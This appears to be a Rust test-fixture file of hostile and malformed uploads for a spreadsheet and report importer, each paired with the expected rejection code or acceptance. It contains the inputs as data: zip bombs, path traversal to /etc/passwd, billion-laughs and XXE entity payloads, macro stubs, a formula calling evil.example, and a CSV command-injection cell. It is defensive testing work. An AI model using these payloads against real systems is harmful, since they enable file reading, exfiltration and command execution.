//! The files that hostile hands may send, and careless ones: each with what it must be answered.

use super::packs::{
    CENTRAL, LOCAL, RELS, book, book_of, figures, letter, old_office, pack, patched, renamed,
    sheet, spaces, words,
};

/// What a file is answered.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Answer {
    /// It is refused with the words of this message.
    Refused(&'static str),
    /// It is read; what is wrong in it is a matter of its rows.
    Taken,
}

/// A file and its answer.
pub type Hostile = (&'static str, Vec<u8>, Answer);

use Answer::{Refused, Taken};

const HEADS: &str = "unit,members_new\n";
const UNIT: &str = "kien-giang/huyen-giang-thanh/xa-phu-loi";

/// Files sent as spreadsheets.
pub fn tables() -> Vec<Hostile> {
    let mut all = packed();
    all.extend(declared());
    all.extend(oversized());
    all.extend(contents());
    all.extend(others());
    all.extend(texts());
    all
}

/// Lies of the pack itself.
fn packed() -> Vec<Hostile> {
    let plain = figures("<c r=\"B2\"><v>12</v></c>");
    let many: Vec<String> = (0..1_500).map(|at| format!("xl/x{at}.xml")).collect();
    let mut many: Vec<(&str, &[u8])> = many.iter().map(|name| (name.as_str(), &b""[..])).collect();
    many.push(("[Content_Types].xml", b""));
    many.push(("xl/workbook.xml", b""));
    let twin = book_of(&sheet(""), &[("xl/workbook.xmk", b"<workbook/>")]);
    let half = plain[..plain.len() / 2].to_vec();
    let mut garbage = b"PK\x03\x04".to_vec();
    garbage.extend((0_u32..5_000).flat_map(|at| at.wrapping_mul(2_654_435_761).to_le_bytes()));
    let out = |name: &str| book_of(&sheet(""), &[(name, b"root:x:0:0")]);
    vec![
        ("a bomb of a sheet", book_of(&spaces(100), &[]), Refused("file-too-large")),
        (
            "a bomb of shared words",
            book_of(&sheet(""), &[("xl/sharedStrings.xml", &spaces(90))]),
            Refused("file-too-large"),
        ),
        (
            "many small bombs",
            book_of(
                &sheet(""),
                &[("a.bin", &spaces(30)), ("b.bin", &spaces(30)), ("c.bin", &spaces(30))],
            ),
            Refused("file-too-large"),
        ),
        ("fifteen hundred parts", pack(&many), Refused("file-heavy")),
        ("a pack in a pack", pack(&[("inner.xlsx", &plain)]), Refused("file-wrong-kind")),
        (
            "two parts of one name",
            renamed(twin, "workbook.xmk", "workbook.xml"),
            Refused("file-damaged"),
        ),
        ("a part above its folder", out("../../etc/passwd"), Refused("file-damaged")),
        ("a part at the root", out("/etc/passwd"), Refused("file-damaged")),
        ("a part of another system", out("xl\\..\\..\\x"), Refused("file-damaged")),
        ("half a file", half, Refused("file-damaged")),
        ("noise behind the first bytes", garbage, Refused("file-damaged")),
        (
            "a false checksum",
            patched(plain.clone(), CENTRAL, 16, &[1, 2, 3, 4]),
            Refused("file-damaged"),
        ),
        (
            "a part that says it is closed",
            patched(patched(plain.clone(), LOCAL, 6, &[1]), CENTRAL, 8, &[1]),
            Refused("file-locked"),
        ),
        (
            "a part packed in a way of its own",
            patched(patched(plain, LOCAL, 8, &[99]), CENTRAL, 10, &[99]),
            Refused("file-damaged"),
        ),
    ]
}

/// Documents that declare, or lead, where none should.
fn declared() -> Vec<Hostile> {
    let laughs = "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">\
        <!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>";
    let row = words("A1", "&c;");
    let bomb =
        format!("{laughs}<worksheet><sheetData><row r=\"1\">{row}</row></sheetData></worksheet>");
    let outside = "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><workbook/>";
    let own = RELS.replace("worksheets/sheet1.xml", "workbook.xml");
    let circle = [("xl/_rels/workbook.xml.rels", own.as_bytes())];
    let deep = "<row r=\"1\">".repeat(300_000);
    let broken = b"\x00\x01\x02 <worksheet";
    vec![
        ("laughter without end", book_of(bomb.as_bytes(), &[]), Refused("file-damaged")),
        (
            "words from outside",
            book_of(&sheet(""), &[("xl/workbook.xml", outside.as_bytes())]),
            Refused("file-damaged"),
        ),
        ("relations in a circle", book_of(&sheet(""), &circle), Refused("file-damaged")),
        ("three hundred thousand open elements", book(&deep), Refused("file-empty")),
        ("a sheet that is no document", book_of(broken, &[]), Refused("file-damaged")),
    ]
}

/// Sheets that are, or claim to be, larger than any.
fn oversized() -> Vec<Hostile> {
    let wide: String = (0..300).map(|at| format!("<c><v>{at}</v></c>")).collect();
    let wide = format!("<row r=\"1\">{wide}</row>");
    let rows: String =
        (1..=20_001).map(|at| format!("<row r=\"{at}\"><c><v>1</v></c></row>")).collect();
    let claims = "<worksheet><dimension ref=\"A1:XFD1048576\"/><sheetData>";
    let near = format!("{claims}<row r=\"1\">{}</row>", words("A1", "unit"));
    let last = words("XFD1048576", "x");
    let far = format!("{near}<row r=\"1048576\">{last}</row></sheetData></worksheet>");
    let near = format!("{near}</sheetData></worksheet>");
    let beyond = "<row r=\"16777217\"><c r=\"A16777217\"><v>1</v></c></row>";
    let long = format!("<row r=\"1\">{}</row>", words("A1", &"ă".repeat(40_000)));
    let attribute =
        format!("<row r=\"1\" x=\"{}\"><c r=\"A1\"><v>1</v></c></row>", "y".repeat(9_000_000));
    vec![
        (
            "cells at both ends of the largest sheet",
            book_of(far.as_bytes(), &[]),
            Refused("file-too-many-rows"),
        ),
        (
            "a sheet that claims to be the largest",
            book_of(near.as_bytes(), &[]),
            Refused("exchange-no-table"),
        ),
        ("a row of sixteen million", book(beyond), Refused("file-too-many-rows")),
        ("twenty thousand rows and one", book(&rows), Refused("file-too-many-rows")),
        ("three hundred columns", book(&wide), Refused("file-too-many-rows")),
        ("a cell of forty thousand letters", book(&long), Refused("file-long-cell")),
        ("an attribute of nine megabytes", book(&attribute), Refused("exchange-no-table")),
    ]
}

/// Cells that are not what they say.
fn contents() -> Vec<Hostile> {
    let back =
        "<row r=\"9\"><c r=\"A9\"><v>1</v></c></row><row r=\"2\"><c r=\"A2\"><v>1</v></c></row>";
    let lost = "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>99</v></c></row>";
    let reaches = "<f>'[1]http://evil.example/x'!A1+WEBSERVICE(\"http://x\")</f>";
    let reaches = format!("<c r=\"B2\">{reaches}<v>12</v></c>");
    vec![
        ("rows that run backwards", book(back), Refused("file-damaged")),
        ("shared words that are not there", book(lost), Refused("file-damaged")),
        ("a formula that reaches out", figures(&reaches), Taken),
        ("a number that is none", figures("<c r=\"B2\"><v>NaN</v></c>"), Taken),
        ("a number beyond all counting", figures("<c r=\"B2\"><v>1e308</v></c>"), Taken),
        ("a number below nought", figures("<c r=\"B2\"><v>-12</v></c>"), Taken),
    ]
}

/// Files of other kinds.
fn others() -> Vec<Hostile> {
    let macros = book_of(&sheet(""), &[("xl/vbaProject.bin", b"Sub AutoOpen()")]);
    let binary = pack(&[("[Content_Types].xml", b"<Types/>"), ("xl/workbook.bin", b"\x83\x01")]);
    let open = pack(&[
        ("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"),
        ("content.xml", b"<office/>"),
    ]);
    vec![
        ("nothing", Vec::new(), Refused("file-empty")),
        ("a workbook with macros", macros, Refused("file-macro")),
        ("a binary workbook", binary, Refused("file-wrong-kind")),
        ("an open document", open, Refused("file-wrong-kind")),
        ("a letter", letter(b"<w:document/>", &[]), Refused("file-wrong-kind")),
        ("a workbook of 1997", old_office(&["Root Entry", "Workbook"]), Refused("file-old-office")),
        (
            "a workbook behind a password",
            old_office(&["EncryptionInfo", "EncryptedPackage"]),
            Refused("file-locked"),
        ),
        ("an installer", old_office(&["Root Entry", "Binary.x"]), Refused("file-wrong-kind")),
        ("a program", b"MZ\x90\x00\x03".to_vec(), Refused("file-wrong-kind")),
        ("a paper", b"%PDF-1.7\n%\xe2\xe3".to_vec(), Refused("file-wrong-kind")),
        ("a picture", b"\x89PNG\r\n\x1a\n\0\0".to_vec(), Refused("file-wrong-kind")),
        (
            "a page",
            b"<html><table><tr><td>unit</td></tr></table>".to_vec(),
            Refused("file-wrong-kind"),
        ),
    ]
}

/// Tables written as text.
fn texts() -> Vec<Hostile> {
    let line = |cell: &str| format!("{HEADS}{UNIT},{cell}\n").into_bytes();
    let wide = |bytes: &[u8]| [&[0xff, 0xfe], bytes].concat();
    let utf16: Vec<u8> =
        String::from_utf8_lossy(&line("12")).encode_utf16().flat_map(u16::to_le_bytes).collect();
    let mut odd = utf16.clone();
    odd.pop();
    let mut old_letters = line("12");
    old_letters.extend(b"Xa Phu L\xf2i,1\n");
    vec![
        ("a line of ten megabytes", line(&"9".repeat(9_900_000)), Refused("file-long-cell")),
        (
            "a quote that never closes",
            line(&format!("\"{}", "a,b\n".repeat(1_000_000))),
            Refused("file-long-cell"),
        ),
        ("three million commas", line(&",".repeat(3_000_000)), Refused("file-too-many-rows")),
        (
            "twenty-five thousand lines",
            line(&"\n1,2".repeat(25_000)),
            Refused("file-too-many-rows"),
        ),
        ("larger than what is taken", line(&"x\n".repeat(5_300_000)), Refused("file-too-large")),
        ("letters of another time", old_letters, Refused("file-letters")),
        ("a nought in the text", line("1\x00002"), Refused("file-wrong-kind")),
        ("half a letter", wide(&odd), Refused("file-damaged")),
        ("letters of two bytes", wide(&utf16), Taken),
        ("a cell that a spreadsheet would run", line("=cmd|'/c calc'!A1"), Taken),
        ("a number in the signs of elsewhere", line("١٢"), Taken),
        ("a table of something else", b"name,phone\nx,1\n".to_vec(), Refused("exchange-no-table")),
    ]
}

/// Files sent as old reports.
pub fn letters() -> Vec<Hostile> {
    let laughs =
        b"<!DOCTYPE x [<!ENTITY a \"ha\">]><w:document><w:p><w:t>&a;</w:t></w:p></w:document>";
    let deep = format!("<w:document>{}", "<w:p>".repeat(100_000));
    let long = format!(
        "<w:document><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:document>",
        "a ".repeat(900_000)
    );
    let plain = "<w:document><w:body><w:p><w:r><w:t>Không có số.</w:t></w:r></w:p></w:body>\
        </w:document>";
    vec![
        ("a letter that is a bomb", letter(&spaces(100), &[]), Refused("file-too-large")),
        ("a letter with its own words", letter(laughs, &[]), Refused("file-damaged")),
        ("a letter without end", letter(deep.as_bytes(), &[]), Refused("file-damaged")),
        ("a letter of a thousand pages", letter(long.as_bytes(), &[]), Refused("file-too-large")),
        (
            "a letter with macros",
            letter(plain.as_bytes(), &[("word/vbaProject.bin", b"Sub")]),
            Refused("file-macro"),
        ),
        ("a letter of 1997", old_office(&["WordDocument"]), Refused("file-old-office")),
        ("a letter without a figure", letter(plain.as_bytes(), &[]), Refused("history-no-figures")),
        ("a paper for a letter", b"%PDF-1.4".to_vec(), Refused("file-wrong-kind")),
    ]
}
